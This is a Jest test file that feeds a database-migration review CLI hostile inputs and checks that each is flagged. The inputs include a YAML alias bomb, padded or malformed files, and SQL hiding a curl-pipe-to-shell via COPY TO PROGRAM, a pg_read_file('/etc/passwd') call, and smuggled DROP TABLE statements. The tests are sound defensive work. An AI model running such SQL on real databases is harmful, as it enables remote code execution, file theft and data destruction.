import { afterEach, describe, expect, it } from '@jest/globals';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { git, makeGitRepository, makeTempFolder, removeFolder } from '../collect/temp-folders.js';
import { runCli } from './run-cli.js';

/**
 * The bypasses of issue 12, reproduced through `dbarch review` with the real engine: each one used
 * to pass as safe (exit 0) or crash with a stack trace. None may pass as safe now.
 */

let root: string;
afterEach(() => removeFolder(root));

const review = (args: string[]) => runCli(['review', '--no-dry-run', '--no-llm', ...args], { cwd: root });

/** A YAML alias bomb: 9 levels of 9 aliases each. */
const ALIAS_BOMB = [
  'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]',
  ...Array.from({ length: 9 }, (_, index) => `a${index + 1}: &a${index + 1} [${Array(9).fill(`*a${index}`).join(', ')}]`),
].join('\n');

describe('hostile input to dbarch review', () => {
  it('refuses a config alias bomb with one line and exit 2, no stack trace', async () => {
    root = makeTempFolder({ '.github/dbarch.yml': ALIAS_BOMB, 'db/migrations/001.sql': 'SELECT 1;\n' });
    const run = await review(['db/migrations/001.sql']);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(/^dbarch: .*\.github\/dbarch\.yml: invalid YAML: more than 50 aliases\n$/);
  });

  it('refuses a misspelt rule id naming the rule meant', async () => {
    root = makeTempFolder({ 'dbarch.yml': 'rules:\n  create-index-non-concurently: off\n', 'db/migrations/001.sql': 'SELECT 1;\n' });
    const run = await review(['--config', 'dbarch.yml', 'db/migrations/001.sql']);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain('did you mean "create-index-non-concurrently"?');
  });

  it('reviews DROP TABLE followed by 26 MB of comments: destructive, exit 1, in the SARIF', async () => {
    root = makeTempFolder({});
    const padding = `-- ${'padding '.repeat(9)}\n`.repeat(Math.ceil((26 * 1024 * 1024) / 76));
    writeFileSync(join(root, 'V1__drop.sql'), `DROP TABLE users;\n${padding}`);
    const run = await review(['--format', 'sarif', 'V1__drop.sql']);
    expect(run.exitCode).toBe(1);
    const sarif = JSON.parse(run.stdout);
    const results = sarif.runs[0].results as Array<{
      ruleId: string;
      locations: Array<{ physicalLocation: { artifactLocation: { uri: string } } }>;
    }>;
    expect(results.map((result) => result.ruleId)).toContain('drop-table');
    expect(results[0]!.locations[0]!.physicalLocation.artifactLocation.uri).toBe('V1__drop.sql');
  }, 60_000);

  it.each([
    ['a NUL byte', Buffer.from('DROP TABLE users;\n\0\n'), /binary file \(contains NUL bytes\)/, 2],
    ['Latin-1 bytes', Buffer.from('-- ok\n-- caf\xe9\nDROP TABLE users;\n', 'latin1'), /not valid UTF-8 \(first invalid byte on line 2/, 2],
  ])('fails a migration with %s: not-reviewed, exit 1, in text, JSON and SARIF', async (_name, bytes, reason, line) => {
    root = makeTempFolder({});
    writeFileSync(join(root, 'V1__bad.sql'), bytes);
    const text = await review(['V1__bad.sql']);
    expect(text.exitCode).toBe(1);
    // The text report wraps messages to the terminal width: compare with runs of whitespace as one space.
    expect(text.stdout.replace(/\s+/g, ' ')).toMatch(
      new RegExp(`V1__bad\\.sql:${line}:1 error not-reviewed dbarch did not review this file: ${reason.source}`),
    );
    const json = JSON.parse((await review(['--format', 'json', 'V1__bad.sql'])).stdout);
    expect(json.findings).toEqual([expect.objectContaining({ ruleId: 'not-reviewed', line, severity: 'error' })]);
    const sarif = JSON.parse((await review(['--format', 'sarif', 'V1__bad.sql'])).stdout);
    expect(sarif.runs[0].results).toEqual([expect.objectContaining({ ruleId: 'not-reviewed', level: 'error' })]);
    expect((await review(['--format', 'markdown', 'V1__bad.sql'])).stdout).toContain('not-reviewed');
  });

  it('fails even with --fail-on destructive: an unreadable migration may hold anything', async () => {
    root = makeTempFolder({});
    writeFileSync(join(root, 'V1__bad.sql'), Buffer.from('DROP TABLE users;\0'));
    expect((await review(['--fail-on', 'destructive', 'V1__bad.sql'])).exitCode).toBe(1);
    expect((await review(['--fail-on', 'never', 'V1__bad.sql'])).exitCode).toBe(0);
  });

  it('fails a models.py nested 3,000 deep as not-reviewed instead of crashing', async () => {
    root = makeTempFolder({});
    const models = `from sqlalchemy.orm import DeclarativeBase\n\nclass Base(DeclarativeBase):\n    pass\n\nx = ${'('.repeat(3000)}1${')'.repeat(3000)}\n`;
    writeFileSync(join(root, 'models.py'), models);
    const run = await review(['--format', 'json', 'models.py']);
    expect(run.exitCode).toBe(1);
    expect(JSON.parse(run.stdout).findings).toEqual([
      expect.objectContaining({ ruleId: 'not-reviewed', line: 6, message: expect.stringContaining('more than 200 nested brackets') }),
    ]);
  });

  it('fails a statement nested too deep to analyse, and still reviews the statements after it', async () => {
    root = makeTempFolder({});
    writeFileSync(join(root, 'V1__deep.sql'), `UPDATE users SET n = ${Array(30_000).fill('1').join(' + ')};\nDROP TABLE users;\n`);
    const run = await review(['--format', 'json', 'V1__deep.sql']);
    expect(run.exitCode).toBe(1);
    const findings = JSON.parse(run.stdout).findings as Array<{ ruleId: string; line: number }>;
    expect(findings.map((finding) => [finding.ruleId, finding.line])).toEqual(
      expect.arrayContaining([
        ['not-reviewed', 1],
        ['drop-table', 2],
      ]),
    );
  });

  it.each([
    [
      'COPY … PROGRAM in a DO block',
      "DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl -s https://example.com/x | sh'; END $$;\n",
      'copy-program-or-server-file',
    ],
    [
      'pg_read_file in a function body',
      "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $f$ BEGIN RETURN pg_read_file('/etc/passwd'); END $f$;\n",
      'server-file-access-function',
    ],
    [
      'a DROP TABLE after a COPY that names FROM STDIN in a string',
      "COPY t TO STDOUT WITH (NULL 'FROM STDIN');\nDROP TABLE users;\n",
      'drop-table',
    ],
    ["a DROP TABLE after psql's \\;", 'SELECT 1 \\; DROP TABLE users;\n', 'drop-table'],
  ])('does not pass %s as safe', async (_name, sql, ruleId) => {
    root = makeTempFolder({ 'V1__hidden.sql': sql });
    const run = await review(['--format', 'json', 'V1__hidden.sql']);
    expect(run.exitCode).toBe(1);
    expect(JSON.parse(run.stdout).findings).toContainEqual(expect.objectContaining({ ruleId, severity: 'error' }));
  });

  it('lists a named file that is no migration as skipped, with the reason, and exits 0', async () => {
    root = makeTempFolder({ 'index.js': 'console.log(1);\n' });
    const run = await review(['index.js']);
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain('index.js: not a migration, model or config file dbarch reviews');
    const json = JSON.parse((await review(['--format', 'json', 'index.js'])).stdout);
    expect(json.files).toEqual([
      expect.objectContaining({ path: 'index.js', kind: 'other', skipped: expect.stringContaining('not a migration') }),
    ]);
  });

  it('exits 2 for a PATH that does not exist in --base mode, as in PATH mode', async () => {
    root = makeGitRepository({ 'db/migrations/001.sql': 'SELECT 1;\n' });
    git(root, 'branch', '--quiet', 'base');
    const run = await review(['--base', 'base', 'db/migrations', 'nonexist/']);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toBe('dbarch: nonexist/: no such file or directory, in the working tree or at the base\n');
  });
});
